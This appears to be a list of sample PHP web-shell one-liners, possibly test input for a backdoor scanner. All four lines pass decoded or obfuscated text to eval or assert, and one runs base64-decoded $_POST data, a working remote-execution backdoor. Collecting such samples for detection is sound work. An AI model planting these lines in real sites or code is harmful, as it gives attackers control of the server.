<?php eval(base64_decode($p)); ?>
//---
<?php eval(gzinflate(base64_decode('S0lNzs8pSQQA'))); ?>
//---
<?php assert(base64_decode($_POST['x'])); ?>
//---
<?php eval(pack('H*', '6563686f2031')); ?>
